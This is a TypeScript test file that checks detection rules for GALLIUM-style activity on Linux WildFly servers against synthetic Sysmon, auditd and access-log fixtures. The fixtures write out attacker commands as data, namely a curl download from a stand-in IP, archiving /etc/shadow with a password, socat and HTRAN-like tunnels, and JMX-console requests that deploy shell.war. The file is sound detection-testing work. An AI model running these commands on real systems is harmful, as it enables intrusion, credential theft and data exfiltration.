/**
 * The GALLIUM rules for Linux and Java web servers, each on positive and negative evidence written
 * in the real formats (Sysmon for Linux in syslog, raw auditd, a WildFly combined access log) and
 * read through the project's readers and mappings, as a hunt reads them.
 */
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { auditExec, clfTime, combinedLine, sysmonFileCreate, sysmonProcess } from '../../scripts/linux-evidence-lines.js';
import { huntFiles, idByTitle, type HuntTally } from './hunt-helper.js';

const HOST = 'APP-WF09';
const JAVA = '/usr/lib/jvm/java-11-openjdk-11.0.2.7-0.el7_6.x86_64/bin/java';
const WILDFLY_CMD = `${JAVA} -D[Standalone] -server -Xms1g -Xmx2g -Djboss.home.dir=/opt/wildfly -Djboss.server.base.dir=/opt/wildfly/standalone -jar /opt/wildfly/jboss-modules.jar -mp /opt/wildfly/modules org.jboss.as.standalone -b 0.0.0.0`;
const JENKINS_CMD = `${JAVA} -Djava.awt.headless=true -jar /usr/share/java/jenkins.war --webroot=/var/cache/jenkins/war --httpPort=8080`;

const t0 = Date.UTC(2019, 2, 6, 9, 0, 0);
const iso = (s: number): string => new Date(t0 + s * 1000).toISOString();

/** Each fixture line, and the rule title it must fire (or null: it must fire nothing). */
interface Case { line: number; title: string | null; why: string }

function buildSyslog(): { text: string; cases: Case[] } {
  const rows: Array<[string, string | null, string]> = [];
  const proc = (s: number, image: string, cmd: string, parentCmd = WILDFLY_CMD, parentImage = JAVA): string => sysmonProcess(HOST, iso(s), { image, cmd, parentImage, parentCmd, user: 'wildfly' });
  const SHELL = 'Java Application Server on Linux Starts a Shell or a Download Tool';
  const JSP = 'Java Application Server on Linux Writes a JSP Page Into a Web Root';
  const ARCHIVE = 'Archive With a Password or Split Into Volumes Created Under a Linux Temporary Folder';
  const TUNNEL = 'Connection Bouncer or SoftEther VPN Started on a Linux Server';
  rows.push([proc(1, '/usr/bin/bash', '/bin/sh -c id;uname -a'), SHELL, 'WildFly JVM starts sh']);
  rows.push([proc(2, '/usr/bin/curl', 'curl -s -o /tmp/.s/k http://198.51.100.77/k'), SHELL, 'WildFly JVM starts curl']);
  rows.push([proc(3, '/usr/bin/bash', '/bin/sh -c git rev-parse HEAD', JENKINS_CMD), null, 'Jenkins (not an app server) runs a build shell']);
  rows.push([proc(4, '/usr/bin/ps', 'ps -o pid,rss -p 1402'), null, 'WildFly JVM runs ps (neither shell nor downloader)']);
  rows.push([proc(5, JAVA, WILDFLY_CMD, '/bin/sh /opt/wildfly/bin/standalone.sh -c standalone.xml', '/usr/bin/bash'), null, 'standalone.sh starts the JVM (the normal direction)']);
  rows.push([sysmonFileCreate(HOST, iso(6), JAVA, '/opt/wildfly/standalone/deployments/portal.war/css/error.jsp'), JSP, 'JVM writes a JSP into an exploded deployment']);
  rows.push([sysmonFileCreate(HOST, iso(7), JAVA, '/opt/wildfly/standalone/tmp/vfs/temp/tempa1b2c3/content-9f8e7d/index.jsp'), null, 'JVM unpacks a deployed archive (vfs temp)']);
  rows.push([sysmonFileCreate(HOST, iso(8), '/usr/bin/cp', '/opt/wildfly/standalone/deployments/portal.war/help.jsp'), null, 'an admin copies a page in (not the JVM)']);
  rows.push([sysmonFileCreate(HOST, iso(9), JAVA, '/opt/wildfly/standalone/log/server.log'), null, 'JVM writes its log']);
  rows.push([proc(10, '/usr/local/bin/rar', 'rar a -hpNordtel#19 -v200m /tmp/.s/cdr.rar /srv/cdr/export', '/bin/bash', '/usr/bin/bash'), ARCHIVE, 'rar with password and volumes in /tmp']);
  rows.push([proc(11, '/usr/bin/7za', '7za a -pX9k2 /dev/shm/b.7z /etc/shadow', '/bin/bash', '/usr/bin/bash'), ARCHIVE, '7za with a password in /dev/shm']);
  rows.push([proc(12, '/usr/bin/split', 'split -b 100M /tmp/.s/cdr.tgz /tmp/.s/cdr.part', '/bin/bash', '/usr/bin/bash'), ARCHIVE, 'split cuts an archive in /tmp']);
  rows.push([proc(13, '/usr/bin/zip', 'zip -r /tmp/app-logs.zip /opt/wildfly/standalone/log', '/bin/bash', '/usr/bin/bash'), null, 'plain zip of logs in /tmp']);
  rows.push([proc(14, '/usr/bin/7za', '7za a -pBackup1 /srv/backup/nightly.7z /srv/cdr/export', '/bin/bash', '/usr/bin/bash'), null, 'encrypted backup outside the temporary folders']);
  rows.push([proc(15, '/tmp/.s/kworker', '/tmp/.s/kworker -tran 8443 10.20.2.21 1521', '/bin/bash', '/usr/bin/bash'), TUNNEL, 'HTRAN-like bouncer, renamed']);
  rows.push([proc(16, '/usr/bin/socat', 'socat TCP-LISTEN:8443,fork,reuseaddr TCP:10.20.2.21:1521', '/bin/bash', '/usr/bin/bash'), TUNNEL, 'socat relay']);
  rows.push([proc(17, '/opt/.cache/vpnbridge', '/opt/.cache/vpnbridge start', '/bin/bash', '/usr/bin/bash'), TUNNEL, 'SoftEther bridge started']);
  rows.push([proc(18, '/usr/bin/socat', 'socat - UNIX-CONNECT:/var/run/haproxy.sock', '/bin/bash', '/usr/bin/bash'), null, 'socat to a local admin socket']);
  rows.push([proc(19, '/usr/bin/ssh', 'ssh -o BatchMode=yes backup@10.20.3.5 true', '/bin/bash', '/usr/bin/bash'), null, 'ordinary ssh']);
  return { text: rows.map((r) => r[0]).join('\n') + '\n', cases: rows.map((r, i) => ({ line: i + 1, title: r[1], why: r[2] })) };
}

function buildAudit(): { text: string; cases: Case[] } {
  const epoch = t0 / 1000 + 100;
  const rar = auditExec(HOST, epoch, 9001, { exe: '/usr/local/bin/rar', args: ['rar', 'a', '-hpNordtel#19', '-v200m', '/tmp/.s/cdr.rar', '/srv/cdr/export'], ppid: 2301, pid: 2410, uid: 993, cwd: '/tmp/.s' });
  const tar = auditExec(HOST, epoch + 5, 9002, { exe: '/usr/bin/tar', args: ['tar', 'czf', '/var/backups/etc.tgz', '/etc'], ppid: 1, pid: 2411, uid: 0, cwd: '/' });
  const lines = [...rar, ...tar];
  const execve = (serial: number): number => lines.findIndex((l) => l.includes(`:${serial}):`) && l.includes('type=EXECVE')) + 1;
  const ARCHIVE = 'Archive With a Password or Split Into Volumes Created Under a Linux Temporary Folder';
  return {
    text: lines.join('\n') + '\n',
    cases: [
      { line: execve(9001), title: ARCHIVE, why: 'auditd EXECVE of rar with password and volumes in /tmp' },
      { line: execve(9002), title: null, why: 'auditd EXECVE of a nightly tar' },
    ],
  };
}

function buildAccess(): { text: string; cases: Case[] } {
  const TITLE = 'Exploitation Request to a JBoss Invoker or a JMX Console Deployment Operation';
  const CONSOLE = 'Requests to JBoss or WildFly Invoker and Management Consoles';
  const at = (s: number): string => clfTime(t0 + s * 1000, 60);
  const rows: Array<[string, string[], string]> = [
    [combinedLine({ ip: '2.58.242.230', clf: at(0), method: 'POST', uri: '/invoker/JMXInvokerServlet', status: 200, bytes: 1211, ua: 'Java/1.8.0_181' }), [CONSOLE, TITLE], 'deserialisation POST'],
    [combinedLine({ ip: '198.51.100.23', clf: at(1), method: 'GET', uri: '/invoker/JMXInvokerServlet', status: 404, bytes: 74, ua: 'Mozilla/5.0 zgrab/0.x' }), [CONSOLE, 'Vulnerability Scanner User Agent in Web Server Logs'], 'scanner probe (GET), the W3C scanner rule too'],
    [combinedLine({ ip: '2.58.242.230', clf: at(2), method: 'GET', uri: '/jmx-console/HtmlAdaptor?action=invokeOpByName&name=jboss.admin%3Aservice%3DDeploymentFileRepository&methodName=store&argType=java.lang.String&arg0=shell.war', status: 200, bytes: 980, ua: 'Mozilla/5.0' }), [CONSOLE, TITLE], 'JMX console stores a WAR'],
    [combinedLine({ ip: '81.2.69.160', clf: at(3), method: 'POST', uri: '/portal/login', status: 302, bytes: 0, ua: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)' }), [], 'customer login'],
  ];
  return { text: rows.map((r) => r[0]).join('\n') + '\n', cases: rows.flatMap((r, i): Case[] => (r[1].length ? r[1].map((t) => ({ line: i + 1, title: t, why: r[2] })) : [{ line: i + 1, title: null, why: r[2] }])) };
}

describe('GALLIUM Linux rules on Sysmon for Linux, auditd and access log evidence', () => {
  let dir: string;
  let tally: HuntTally;
  const files = { syslog: buildSyslog(), audit: buildAudit(), access: buildAccess() };
  before(async () => {
    dir = mkdtempSync(path.join(tmpdir(), 'gallium-linux-'));
    mkdirSync(path.join(dir, HOST, 'audit'), { recursive: true });
    writeFileSync(path.join(dir, HOST, 'syslog'), files.syslog.text);
    writeFileSync(path.join(dir, HOST, 'audit', 'audit.log'), files.audit.text);
    writeFileSync(path.join(dir, HOST, 'access_log.2019-03-06'), files.access.text);
    tally = await huntFiles([dir], dir);
  });
  after(() => rmSync(dir, { recursive: true, force: true }));

  it('reads the three files in their own formats without a problem', () => {
    assert.deepEqual(tally.problems, []);
    const formats = new Set(tally.findings.map((f) => f.source.format));
    assert.deepEqual([...formats].sort(), ['access', 'auditd', 'syslog']);
  });

  for (const [name, rel] of [['syslog', `${HOST}/syslog`], ['audit', `${HOST}/audit/audit.log`], ['access', `${HOST}/access_log.2019-03-06`]] as const) {
    it(`${name}: each positive line fires its rule, each negative line fires nothing`, () => {
      const fired = new Map<number, string[]>();
      for (const f of tally.findings) {
        if (f.detector !== 'sigma' || path.relative(dir, f.source.path).split(path.sep).join('/') !== rel) continue;
        fired.set(f.source.record, [...(fired.get(f.source.record) ?? []), f.rule.title].sort());
      }
      const cases = files[name].cases;
      const want = new Map<number, string[]>();
      for (const c of cases) if (c.title) want.set(c.line, [...(want.get(c.line) ?? []), c.title].sort());
      for (const c of cases) {
        assert.deepEqual(fired.get(c.line) ?? [], want.get(c.line) ?? [], `line ${c.line}: ${c.why}`);
      }
    });
  }

  it('findings name the Linux host from the event (Sysmon Computer, auditd node)', () => {
    const hosts = new Set(tally.findings.filter((f) => f.source.format !== 'access').map((f) => f.host));
    assert.deepEqual([...hosts], [HOST]);
    const rar = tally.findings.find((f) => f.source.format === 'auditd');
    assert.ok(rar);
    assert.equal(rar.rule.id, idByTitle(tally.set, 'Archive With a Password or Split Into Volumes Created Under a Linux Temporary Folder'));
    // `matched` names the event's own fields (auditd names, through the process_creation field mapping).
    assert.deepEqual(Object.keys(rar.matched).sort(), ['cmdline', 'exe']);
    assert.equal(rar.matched.cmdline, 'rar a -hpNordtel#19 -v200m /tmp/.s/cdr.rar /srv/cdr/export');
  });
});
